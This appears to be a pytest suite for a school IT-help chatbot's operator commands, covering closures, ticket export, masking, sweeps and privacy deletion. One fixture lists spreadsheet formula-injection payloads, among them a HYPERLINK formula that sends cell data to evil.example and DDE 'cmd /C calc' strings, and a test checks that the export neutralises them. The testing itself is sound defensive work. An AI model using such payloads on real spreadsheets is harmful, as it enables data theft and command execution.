"""Operators' commands: schools, closures, ticket export and sweeps, article drafts, checking
the articles published from chat."""

from __future__ import annotations

import csv
import io
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path

from sqlalchemy import select
from sqlalchemy import text as sql

from adapters.console import ConsoleChat
from adapters.runtime import Runtime
from bot.blocks import reply_to_json, say
from bot.features.answers.models import QuestionRow
from bot.people.directory import remember_person
from bot.scheduling import ledger
from bot.scheduling.ledger import Planned
from bot.scheduling.models import DeliveryRow
from bot.vocabulary import Person
from knowledge.loader import shipped_folder
from tests.adapters.cli.test_cli import prepbot
from tests.bot.features.library.conftest import LAMINATOR


def test_a_school_is_added_with_its_zone_and_hours(tmp_path: Path) -> None:
    added = prepbot("schools", "add", "Lincoln Elementary", "--tz", "America/Chicago",
                    "--hours", "07:45-15:15", cwd=tmp_path, DATABASE_URL="")
    assert added.returncode == 0, added.stderr
    listed = prepbot("schools", "list", cwd=tmp_path, DATABASE_URL="")
    assert "Lincoln Elementary\tAmerica/Chicago\t07:45-15:15" in listed.stdout


def test_bad_school_settings_are_refused_clearly(tmp_path: Path) -> None:
    zone = prepbot("schools", "add", "X", "--tz", "Mars/Base", cwd=tmp_path, DATABASE_URL="")
    hours = prepbot("schools", "add", "X", "--hours", "3pm", cwd=tmp_path, DATABASE_URL="")
    assert zone.returncode == 2 and "not a time zone" in zone.stderr
    assert hours.returncode == 2 and "HH:MM-HH:MM" in hours.stderr


def test_closures_import_all_or_nothing_and_skip_known_dates(tmp_path: Path) -> None:
    prepbot("schools", "add", "Lincoln", cwd=tmp_path, DATABASE_URL="")
    bad = tmp_path / "bad.csv"
    bad.write_text("date,label\n2026-12-24,Winter break\nnot-a-date,oops\n")
    refused = prepbot("schools", "closures", "Lincoln", str(bad), cwd=tmp_path, DATABASE_URL="")
    assert refused.returncode == 2 and "line 3" in refused.stderr

    good = tmp_path / "good.csv"
    good.write_text("date,label\n2026-12-24,Winter break\n2026-12-25,Winter break\n")
    first = prepbot("schools", "closures", "Lincoln", str(good), cwd=tmp_path, DATABASE_URL="")
    again = prepbot("schools", "closures", "Lincoln", str(good), cwd=tmp_path, DATABASE_URL="")
    assert "2 closure date(s)" in first.stdout and "0 closure date(s)" in again.stdout


def test_closures_saved_by_excel_as_csv_utf8_are_imported(tmp_path: Path) -> None:
    # A red team's (stop 52): Excel's byte-order mark made the header "line 1: not a date".
    prepbot("schools", "add", "Lincoln", cwd=tmp_path, DATABASE_URL="")
    calendar = tmp_path / "closures.csv"
    calendar.write_bytes(b"\xef\xbb\xbfdate,label\r\n2026-12-24,Winter break\r\n"
                         b"2027-02-15,Presidents\xe2\x80\x99 Day\r\n")
    imported = prepbot("schools", "closures", "Lincoln", str(calendar), cwd=tmp_path,
                       DATABASE_URL="")
    assert imported.returncode == 0, imported.stderr
    assert "2 closure date(s) added to Lincoln." in imported.stdout


def test_closures_in_another_encoding_or_not_there_are_one_sentence(tmp_path: Path) -> None:
    # A red team's (stop 52): Excel's plain "CSV" (Windows-1252) and a mistyped file name were
    # tracebacks.
    prepbot("schools", "add", "Lincoln", cwd=tmp_path, DATABASE_URL="")
    calendar = tmp_path / "closures.csv"
    calendar.write_bytes(b"date,label\r\n2027-02-15,Presidents\x92 Day\r\n")
    windows = prepbot("schools", "closures", "Lincoln", str(calendar), cwd=tmp_path,
                      DATABASE_URL="")
    assert windows.returncode == 2 and "Traceback" not in windows.stderr, windows.stderr
    assert 'save it as "CSV UTF-8 (Comma delimited)"' in windows.stderr
    missing = prepbot("schools", "closures", "Lincoln", str(tmp_path / "closure.csv"),
                      cwd=tmp_path, DATABASE_URL="")
    assert missing.returncode == 2
    assert missing.stderr == f"Cannot read {tmp_path / 'closure.csv'}: No such file or directory.\n"


def test_ticket_export_writes_the_masked_text_only(tmp_path: Path) -> None:
    chat = prepbot("chat", cwd=tmp_path, DATABASE_URL="",
                   input="/ticket student Maria Lopez id 4820193 can't log in\nquit\n")
    assert "Ticket #1 is open" in chat.stdout
    exported = prepbot("tickets", "export", "-", cwd=tmp_path, DATABASE_URL="")
    [header, row] = list(csv.reader(io.StringIO(exported.stdout)))
    assert header[0] == "number" and "text" in header
    text = row[header.index("text")]
    assert "Maria" not in text and "4820193" not in text and "[name]" in text


def test_sweep_and_drafts_run_on_an_empty_database(tmp_path: Path) -> None:
    swept = prepbot("tickets", "sweep", cwd=tmp_path, DATABASE_URL="")
    assert swept.returncode == 0 and "0 message(s) planned" in swept.stdout
    assert prepbot("kb", "drafts", cwd=tmp_path, DATABASE_URL="").returncode == 0


async def test_a_sweep_from_a_shell_runs_retention_and_leaves_due_messages_to_the_server(
        runtime: Runtime, database_url: str, tmp_path: Path) -> None:
    # A red team's (stop 52): a shell has no Slack messenger; the sweep sent the due notice
    # anyway, recorded it failed ("no messenger for slack") and put it off, or lost it.
    now = datetime.now(UTC)  # the shell's command runs on the real clock
    async with runtime.sessions() as session, session.begin():
        await ledger.plan(session, [Planned(
            "notice", "sweep:1", "slack", now - timedelta(minutes=1), now + timedelta(days=3),
            user_id="UTEACHER", urgent=True, payload=reply_to_json(say("Is the light on?")))])
        asker = await remember_person(session, Person(platform="slack", user_id="UTEACHER"),
                                      now, frozenset())
        session.add(QuestionRow(person_id=asker.id, platform="slack", text="printer jams",
                                outcome="answered", asked_at=now - timedelta(days=400)))
    swept = prepbot("tickets", "sweep", cwd=tmp_path, DATABASE_URL=database_url)
    assert swept.returncode == 0, swept.stderr
    assert "sent by the running server (`prepbot serve`), not from a shell" in swept.stdout
    async with runtime.sessions() as session:
        [notice] = (await session.execute(select(DeliveryRow))).scalars()
        assert (notice.status, notice.attempts, notice.error) == ("pending", 0, "")
        assert notice.not_before == now - timedelta(minutes=1)
        assert not (await session.execute(select(QuestionRow))).all(), "retention ran"


def test_the_teams_package_is_written_with_the_app_id(tmp_path: Path) -> None:
    import json
    import zipfile

    app_id = "11111111-2222-3333-4444-555555555555"
    out = tmp_path / "teams.zip"
    made = prepbot("teams", "package", "--app-id", app_id, "--out", str(out), cwd=tmp_path)
    assert made.returncode == 0, made.stderr
    with zipfile.ZipFile(out) as package:
        assert {"manifest.json", "color.png", "outline.png"} <= set(package.namelist())
        assert app_id in json.dumps(json.loads(package.read("manifest.json")))
    refused = prepbot("teams", "package", "--app-id", "not-a-guid", cwd=tmp_path)
    assert refused.returncode == 2 and "GUID" in refused.stderr


def test_pulse_export_writes_a_header_even_with_no_closed_survey(tmp_path: Path) -> None:
    exported = prepbot("pulse", "export", "-", cwd=tmp_path, DATABASE_URL="")
    assert exported.returncode == 0, exported.stderr
    header = exported.stdout.splitlines()[0].split(",")
    assert "survey" in header and not {"person", "user", "name", "date"} & set(header)


async def test_kb_check_published_also_checks_the_articles_published_from_chat(
        chat: ConsoleChat, coach: Person, database_url: str, tmp_path: Path) -> None:
    await chat.submit("library.save", LAMINATOR, "new", as_=coach)
    folder = tmp_path / "district"
    folder.mkdir()
    copied = (shipped_folder() / "printer-offline.md").read_text().replace(
        "id: printer-offline", "id: workroom").replace(
        "phrasings:", "phrasings:\n  - laminator keeps jamming")
    (folder / "workroom.md").write_text(copied)

    alone = prepbot("kb", "check", "--dir", str(folder), cwd=tmp_path,
                    DATABASE_URL=database_url)
    assert "laminator keeps jamming" not in alone.stdout
    both = prepbot("kb", "check", "--dir", str(folder), "--published", cwd=tmp_path,
                   DATABASE_URL=database_url)
    assert both.returncode == 1
    assert "database/laminator-jams-or-wrinkles-the-pouch.md" in both.stdout
    assert "phrasing 'laminator keeps jamming' is also in" in both.stdout


# What a teacher may type into a ticket's text and room, and what the export must write.
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A3,"Printer fixed - click to confirm")'
TYPED = [(HYPERLINK, "=1+2"), ("+1+2 the smartboard pen is off by an inch", "@SUM(1+1)"),
         ("-2+3+cmd|' /C calc'!A0 the printer is jammed again", "-1"),
         ("@SUM(1+1)*cmd|' /C calc'!A0 the laminator ate a poster", "+44"),
         ("the document camera shows a grey screen", "204")]


async def test_ticket_export_runs_no_formula_a_teacher_typed(
        chat: ConsoleChat, teacher: Person, database_url: str, tmp_path: Path) -> None:
    for number, (text, room) in enumerate(TYPED, start=1):
        [opened] = await chat.submit("tickets.new", {
            "text": text, "room": room, "urgency": "today", "category": "other",
            "identifiers": "mask"}, f"formula-{number}", as_=teacher)
        assert f"#{number}" in opened.text
    exported = prepbot("tickets", "export", "-", cwd=tmp_path, DATABASE_URL=database_url)
    [header, *rows] = list(csv.reader(io.StringIO(exported.stdout)))
    texts = [row[header.index("text")] for row in rows]
    rooms = [row[header.index("room")] for row in rows]
    assert texts == [*("'" + text for text, _ in TYPED[:4]), TYPED[4][0]]
    # A signed plain number runs nothing and stays a number, as do the export's own numbers.
    assert rooms == ["'=1+2", "'@SUM(1+1)", "-1", "+44", "204"]
    assert [row[header.index("number")] for row in rows] == ["1", "2", "3", "4", "5"]
    assert {row[header.index("teachers_affected")] for row in rows} == {"1"}


async def test_ticket_export_masks_a_ticket_kept_as_typed(
        chat: ConsoleChat, teacher: Person, runtime: Runtime, database_url: str,
        tmp_path: Path) -> None:
    kept = ("Jaden Smith (student ID 448812) cannot log in; his mom Keisha Smith's cell is "
            "503-217-6684")
    await chat.submit("tickets.new", {
        "text": kept, "room": "Jaden Smith's desk", "urgency": "today",
        "category": "accounts", "identifiers": "keep"}, "kept", as_=teacher)
    out = tmp_path / "tickets.csv"
    exported = prepbot("tickets", "export", str(out), cwd=tmp_path, DATABASE_URL=database_url)
    assert exported.returncode == 0, exported.stderr
    [header, row] = list(csv.reader(io.StringIO(out.read_text("utf-8"))))
    written = out.read_text("utf-8")
    for detail in ("448812", "503-217-6684", "Jaden", "Keisha"):
        assert detail not in written
    assert "[id number]" in row[header.index("text")] and "[phone]" in row[header.index("text")]
    assert row[header.index("room")] == "[name]'s desk"
    async with runtime.sessions() as session:  # the coach still reads what was kept
        stored = (await session.execute(sql("select text from tickets"))).scalar_one()
    assert stored == kept


def test_a_coachs_digest_prints_as_plain_text_and_a_stranger_is_refused(tmp_path: Path) -> None:
    nobody = prepbot("digest", "--coach", "slack:UNOBODY", cwd=tmp_path, DATABASE_URL="")
    assert nobody.returncode != 0
    assert "Nobody called slack:UNOBODY has used prepbot yet." in nobody.stderr + nobody.stdout
    prepbot("roles", "set", "slack:UCOACH", "coach", cwd=tmp_path, DATABASE_URL="")

    printed = prepbot("digest", "--coach", "slack:UCOACH", cwd=tmp_path, DATABASE_URL="")

    assert printed.returncode == 0, printed.stderr
    assert "Tickets" in printed.stdout


def test_a_digest_period_into_year_9999_is_refused_in_a_sentence(tmp_path: Path) -> None:
    # A red team's (stop 52): "everything from January on" was an OverflowError traceback.
    prepbot("roles", "set", "console:park", "coach", cwd=tmp_path, DATABASE_URL="")
    printed = prepbot("digest", "--coach", "console:park", "--period", "2026-01-01..9999-12-31",
                      cwd=tmp_path, DATABASE_URL="")
    assert printed.returncode == 2 and "Traceback" not in printed.stderr, printed.stderr
    assert "A digest covers at most three years" in printed.stderr


def test_an_erased_coachs_open_work_goes_to_another_coach_first(tmp_path: Path) -> None:
    # A red team's (stop 51): erased, her work stayed with a row that names no one, and no
    # handover could ever reach it.
    prepbot("chat", "--role", "coach", cwd=tmp_path, DATABASE_URL="",
            input="/tools add Blooket\nquit\n")
    refused = prepbot("privacy", "delete", "console:you", "--yes", cwd=tmp_path,
                      DATABASE_URL="")
    assert refused.returncode == 2
    assert "still runs 1 tool. Nothing was erased" in refused.stderr
    for role in ("coach", "teacher"):  # stored, and a teacher (no role is taken from no one)
        prepbot("roles", "set", "console:park", role, cwd=tmp_path, DATABASE_URL="")
    teacher = prepbot("privacy", "delete", "console:you", "--yes", "--hand-to", "console:park",
                      cwd=tmp_path, DATABASE_URL="")
    assert teacher.returncode == 2 and "isn't another coach" in teacher.stderr
    prepbot("roles", "set", "console:park", "coach", cwd=tmp_path, DATABASE_URL="")
    erased = prepbot("privacy", "delete", "console:you", "--yes", "--hand-to", "console:park",
                     cwd=tmp_path, DATABASE_URL="")
    assert "Handed to console:park: 1 tool." in erased.stdout, erased.stderr
    with sqlite3.connect(tmp_path / "prepbot.db") as db:
        [(owner,)] = db.execute("SELECT people.user_id FROM tools JOIN people "
                                "ON people.id = tools.owner_id").fetchall()
    assert owner == "park"
